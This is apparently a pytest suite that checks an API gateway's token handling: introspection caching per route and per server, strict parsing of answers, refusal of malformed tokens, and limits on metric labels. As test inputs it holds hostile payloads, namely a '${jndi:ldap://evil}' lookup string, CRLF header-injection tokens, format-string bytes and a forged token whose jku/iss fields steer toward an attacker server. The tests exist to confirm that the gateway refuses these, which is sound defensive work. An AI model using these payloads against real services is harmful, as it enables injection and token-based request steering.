"""Attacks by tokens, and by what a stranger can make the gateway ask, keep or count."""

import asyncio
import base64
import dataclasses
import json
import random
import re
import time
from collections.abc import AsyncIterator
from contextlib import closing
from urllib.parse import parse_qs

import pytest

from gateway.policy.method import PARSED_METHODS, USUAL_METHODS
from tests.attacks.wire import GET, HOST, ask, bearer, get, refused
from tests.proxy.stage import OK, Answer, KnownTokens, Peer, Service, Stage, token

ROUTES = [
    {"name": "a", "match": {"path": "/a"}, "require": {"scopes": ["orders:read"]}},
    {"name": "b", "match": {"path": "/b"}, "require": {"scopes": ["orders:write"]}},
    {"name": "c", "match": {"path": "/c"}, "require": {"audience": "https://api.example.com"}},
    {"name": "any", "match": {"path": "/any"}, "require": {}},
]


# 50. What one route or one server has let in, another one judges by itself.


async def test_h50_cached_token_is_held_against_each_route_anew(stage: Stage) -> None:
    """CVE-2021-32701: an answer is about a token, never about a request."""
    await stage.open(routes=ROUTES)
    await stage.pass_through(ask(b"/a", bearer(b"reader")))
    for _ in range(3):
        refusal = await stage.ask(ask(b"/b", bearer(b"reader")))
        assert (refusal.status, refusal.reason) == (403, "insufficient_scope")
    await stage.close()
    assert stage.tokens.asked == ["reader"]
    assert stage.service.is_untouched


async def test_h50_token_in_flight_is_held_against_each_route(stage: Stage) -> None:
    """Those who wait for one question have one answer, and each its own verdict."""
    await stage.open(routes=ROUTES)
    stage.tokens.gate = asyncio.Event()
    good = await stage.client(ask(b"/a", bearer(b"reader")))
    bad = await stage.client(ask(b"/b", bearer(b"reader")))
    await stage.settled_series(
        "gateway_introspection_cache_lookups_total", {'result="coalesced"': 1, 'result="miss"': 1}
    )
    stage.tokens.gate.set()
    assert (await bad.answer()).status == 403
    service = await stage.accept()
    assert (await service.head()).startswith(b"GET /a ")
    service.send(OK)
    assert (await good.answer()).status == 200
    assert stage.tokens.asked == ["reader"]
    await stage.close()
    assert stage.service.is_untouched


OF_TWO = [
    {**route, "authorization_server": server, "name": f"{route['name']}-{server}"}
    for route, server in [(ROUTES[0], "corporate"), (ROUTES[1], "partner")]
]


def server(name: str) -> dict[str, object]:
    url = f"https://{name}.example.com"
    asked = {"issuer": url, "url": url, "client_id": "gateway", "client_secret": "secret"}
    return {"introspection": asked}


async def open_with_two_servers(stage: Stage) -> KnownTokens:
    """Open the stage with a route of each of two servers; give the second, which knows `writer`."""
    partner = KnownTokens()
    writer = dataclasses.replace(token("orders:write"), issuer="https://partner.example.com")
    partner.answers = {"writer": writer}
    stage.introspectors = {"corporate": stage.tokens, "partner": partner}
    servers = {"corporate": server("login"), "partner": server("partner")}
    await stage.open(routes=OF_TWO, authorization_servers=servers)
    return partner


async def test_h50_cached_token_of_one_server_is_none_of_another(stage: Stage) -> None:
    """CVE-2026-33496, GHSA-84rm-mhfq-f476: the other server is asked, and says no."""
    partner = await open_with_two_servers(stage)
    stage.tokens.answers["reader"] = token("orders:read", "orders:write")
    client = await stage.client(ask(b"/a", bearer(b"reader")))
    service = await stage.accept()
    await service.head()
    service.send(OK)
    assert (await client.answer()).status == 200
    assert (await stage.ask(ask(b"/b", bearer(b"reader")))).status == 401
    # And a no of the first is none of the second's.
    assert (await stage.ask(ask(b"/a", bearer(b"writer")))).status == 401
    client.send(ask(b"/b", bearer(b"writer")))
    assert (await service.head()).startswith(b"GET /b ")
    service.send(OK)
    assert (await client.answer()).status == 200
    assert (stage.tokens.asked, partner.asked) == (["reader", "writer"], ["reader", "writer"])
    await stage.close()
    assert stage.service.is_untouched


async def test_h50_question_in_flight_at_one_server_is_none_of_another(stage: Stage) -> None:
    """Whoever asks the other server meanwhile is answered by it alone, and at once."""
    partner = await open_with_two_servers(stage)
    stage.tokens.answers["reader"] = token("orders:read", "orders:write")
    stage.tokens.gate = asyncio.Event()
    waiting = await stage.client(ask(b"/a", bearer(b"reader")))
    await stage.settled_series("gateway_introspection_cache_lookups_total", {'result="miss"': 1})
    assert (await stage.ask(ask(b"/b", bearer(b"reader")))).status == 401
    stage.tokens.gate.set()
    service = await stage.accept()
    assert (await service.head()).startswith(b"GET /a ")
    service.send(OK)
    assert (await waiting.answer()).status == 200
    assert (stage.tokens.asked, partner.asked) == (["reader"], ["reader"])
    assert (await stage.ask(ask(b"/b", bearer(b"reader")))).status == 401
    await stage.close()
    assert stage.service.is_untouched


# 51. What an answer says, and what it leaves out.


async def test_h51_no_answer_outlives_its_token(stage: Stage) -> None:
    """It passes while it is remembered, and not one moment after its `exp`."""
    await stage.open(routes=ROUTES)
    expires_at = time.time() + 2.0
    stage.tokens.answers["short"] = token("orders:read", expires_at=expires_at)
    client = await stage.client()
    service: Peer | None = None
    for _ in range(3):
        client.send(ask(b"/a", bearer(b"short")))
        service = service or await stage.accept()
        await service.head()
        service.send(OK)
        assert (await client.answer()).status == 200
    assert stage.tokens.asked == ["short"]
    await asyncio.sleep(max(0.0, expires_at - time.time()) + 0.01)
    client.send(ask(b"/a", bearer(b"short")))
    refusal = await client.answer()
    assert time.time() >= expires_at
    assert (refusal.status, refusal.reason) == (401, "inactive_token")
    await stage.close()
    assert stage.service.is_untouched


class Introspection:
    """An authorization server that the test plays, byte by byte."""

    def __init__(self, stage: Stage) -> None:
        self.stage = stage
        self.service = Service()
        self.questions: list[dict[str, list[str]]] = []

    async def open(self) -> None:
        await self.service.open()
        self.stage.introspectors = None
        asked = {
            "issuer": "https://login.example.com",
            "url": f"http://127.0.0.1:{self.service.port}/introspect",
            "client_id": "gateway",
            "client_secret": "secret",
        }
        await self.stage.open(
            routes=ROUTES, authorization_servers={"corporate": {"introspection": asked}}
        )

    async def say(self, answer: object) -> None:
        """Answer the next question."""
        peer = await self.service.accept()
        head = (await peer.head()).lower()
        match = re.search(rb"content-length: (\d+)", head)
        assert match is not None
        self.questions.append(parse_qs((await peer.exactly(int(match[1]))).decode()))
        body = json.dumps(answer).encode()
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
        peer.send(head + b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
        peer.close()


@pytest.fixture
async def server_played(stage: Stage) -> AsyncIterator[Introspection]:
    server_played = Introspection(stage)
    yield server_played
    server_played.service.close()


ACTIVE = {"active": True, "scope": "orders:read orders:write", "client_id": "c"}
UNCLEAR = [{**ACTIVE, "active": value} for value in ("true", 1, None, [True], {"active": True})]


@pytest.mark.parametrize("answer", [{}, {"scope": "orders:read"}, *UNCLEAR, [ACTIVE], "active"])
async def test_h51_active_that_is_missing_or_no_boolean_opens_nothing(
    stage: Stage, server_played: Introspection, answer: object
) -> None:
    """It is no clear answer, so the outage is the server's: 503, and nobody is let in."""
    await server_played.open()
    client = await stage.client(ask(b"/a", bearer(b"t")))
    await server_played.say(answer)
    refusal = await client.answer()
    assert (refusal.status, refusal.reason) == (503, "authorization_server_unavailable")
    client.close()
    await stage.close()
    assert stage.service.is_untouched


@pytest.mark.parametrize(
    ("answer", "path", "status", "reason"),
    [
        (ACTIVE, b"/a", 200, None),  # without `exp`
        (ACTIVE, b"/c", 401, "wrong_audience"),  # without `aud`
        ({**ACTIVE, "aud": []}, b"/c", 401, "wrong_audience"),
        ({**ACTIVE, "aud": "https://api.example.com/"}, b"/c", 401, "wrong_audience"),
        ({**ACTIVE, "aud": ["x", "https://api.example.com"]}, b"/c", 200, None),
        ({**ACTIVE, "exp": 1}, b"/a", 401, "inactive_token"),
        ({**ACTIVE, "iss": "https://evil.example"}, b"/a", 401, "wrong_issuer"),
        ({"active": False, "scope": "orders:read"}, b"/a", 401, "inactive_token"),
    ],
)
async def test_h51_what_an_answer_leaves_out_is_not_made_up(
    stage: Stage,
    server_played: Introspection,
    answer: object,
    path: bytes,
    status: int,
    reason: str | None,
) -> None:
    await server_played.open()
    client = await stage.client(ask(path, bearer(b"t")))
    await server_played.say(answer)
    if status == 200:
        service = await stage.accept()
        await service.head()
        service.send(OK)
    received = await client.answer()
    assert received.status == status
    assert reason is None or received.reason == reason
    client.close()
    await stage.close()
    assert stage.service.is_untouched


# 52. Tokens that are none.

NO_TOKENS = {
    "%s": (b"%s%n%x", "malformed_token"),
    "an escaped line end": (b"a%0d%0aX-Evil:%201", "malformed_token"),
    "a quote": (b'a"b', "malformed_token"),
    "a template": (b"${jndi:ldap://evil}", "malformed_token"),
    "UTF-8": ("토큰".encode(), "malformed_token"),
    "Latin-1": (b"\xe9", "malformed_token"),
    "a list": (b"machine, machine", "malformed_token"),
    "20 KiB": (b"a" * 20_000, "malformed_token"),
    "padding alone": (b"====", "malformed_token"),
}


@pytest.mark.parametrize(("text", "reason"), NO_TOKENS.values(), ids=NO_TOKENS.keys())
async def test_h52_what_is_no_token_is_asked_of_nobody(
    stage: Stage, text: bytes, reason: str
) -> None:
    await stage.open(routes=ROUTES)
    refusal = await stage.ask(ask(b"/a", bearer(text)))
    assert (refusal.status, refusal.reason) == (401, reason)
    assert text not in refusal.head + refusal.body
    assert text not in (await logged(stage)).encode("utf-8", "surrogateescape")
    assert stage.tokens.asked == []
    assert stage.service.is_untouched


async def logged(stage: Stage) -> str:
    """Give the access log, which has one line."""
    await stage.close()
    text = stage.log_file.read_text()
    assert text.count("\n") == 1
    return text


@pytest.mark.parametrize("text", [b"a\x00b", b"a\rb", b"a\nX-Evil: 1", b"a\r\n X-Evil: 1"])
async def test_h52_control_bytes_in_a_token_are_a_400_and_reach_nobody(
    stage: Stage, text: bytes
) -> None:
    refusal = await refused(stage, ask(b"/orders/1", bearer(text)), GET)
    assert (refusal.status, refusal.reason) == (400, "malformed_request")
    assert stage.tokens.asked == []


async def test_h52_field_behind_a_token_is_a_field(stage: Stage) -> None:
    """CR LF ends the token: what follows is judged like every field that a client sends."""
    await stage.open(routes=ROUTES)
    seen, _ = await stage.pass_through(
        ask(b"/a", bearer(b"reader\r\nX-Auth-Subject: root\r\nX-Mine: 1"))
    )
    assert seen.values(b"X-Auth-Subject") == [b"5c1f"]
    assert stage.tokens.asked == ["reader"]


@pytest.mark.parametrize("limits", [{}, {"header_bytes": "1024KiB"}])
async def test_h52_token_of_a_mebibyte_is_refused_and_kept_nowhere(
    stage: Stage, limits: dict[str, str]
) -> None:
    await stage.open(routes=ROUTES, limits=limits)
    client = await stage.client(get(HOST, bearer(b"a" * 1024 * 1024), target=b"/a"))
    assert re.match(rb"HTTP/1.1 (431|401) ", await client.some())
    client.close()
    await stage.close()
    assert stage.log_file.stat().st_size < 2000
    assert stage.tokens.asked == []
    assert stage.service.is_untouched


async def test_h52_no_word_of_a_token_steers_a_connection(
    stage: Stage, server_played: Introspection
) -> None:
    """Whatever `iss`, `jku` and the like a token names: the one server that is configured is asked.

    It gets the token whole, in a form that the token cannot break out of.
    """
    with closing(Service()) as evil:
        await evil.open()
        await server_played.open()
        address = f"http://127.0.0.1:{evil.port}"
        steering = {
            "alg": "RS256",
            "kid": f"../../{address}|id",
            **dict.fromkeys(("jku", "x5u", "iss"), address),
        }

        def part(members: object) -> str:
            return base64.urlsafe_b64encode(json.dumps(members).encode()).decode().rstrip("=")

        text = f"{part(steering)}.{part(steering)}.AAAA+/~-_"
        client = await stage.client(ask(b"/a", bearer(text.encode())))
        await server_played.say({"active": False})
        assert (await client.answer()).reason == "inactive_token"
        [question] = server_played.questions
        assert question["token"] == [text]
        assert set(question) <= {"token", "token_type_hint"}
        assert evil.is_untouched
        assert stage.service.is_untouched
        client.close()


# 53. What strangers can make the gateway count.


async def test_h53_ten_thousand_random_requests_make_no_new_series(stage: Stage) -> None:
    """Labels come from closed sets, whatever paths, methods and hosts are asked for."""
    await stage.open(routes=ROUTES)
    chance = random.Random(53)
    methods = [method.encode() for method in sorted(PARSED_METHODS)]

    def request() -> bytes:
        word = b"%x" % chance.getrandbits(64)
        path = chance.choice([b"/%b", b"/a/%b", b"/%b/../x", b"/a?%b", b"/any;%b", b"//%b"])
        method = chance.choice([*methods, word.upper()])
        fields = chance.choice([[], [bearer(word)], [b"Authorization: %b" % word]])
        return ask(path % word, *fields, method=method, host=word + b".example")

    async def send(count: int) -> None:
        client: Peer | None = None
        for _ in range(count):
            client = client or await stage.client()
            sent = request()
            client.send(sent)
            answer = Answer(await client.head())
            assert 400 <= answer.status < 500
            if not sent.startswith(b"HEAD "):
                await client.exactly(int(answer.fields["content-length"]))
            if answer.fields.get("connection") == "close":
                client.close()
                stage.clients.remove(client)
                client = None

    # Every kind of refusal has come up by then.
    await send(1000)
    before = series(stage)
    await send(10_000)
    assert series(stage) == before
    assert stage.service.is_untouched
    labels = {pair for one in before for pair in re.findall(r'(route|method)="([^"]*)"', one)}
    assert {value for name, value in labels if name == "route"} == {"-", "a", "b", "c", "any"}
    assert {value for name, value in labels if name == "method"} <= {*USUAL_METHODS, "other"}


def series(stage: Stage) -> set[str]:
    """Every series that a scrape would see, without its value."""
    stage.gateway.metrics.settle()
    lines = stage.gateway.metrics.expose().decode().splitlines()
    return {line.rpartition(" ")[0] for line in lines if not line.startswith("#")}
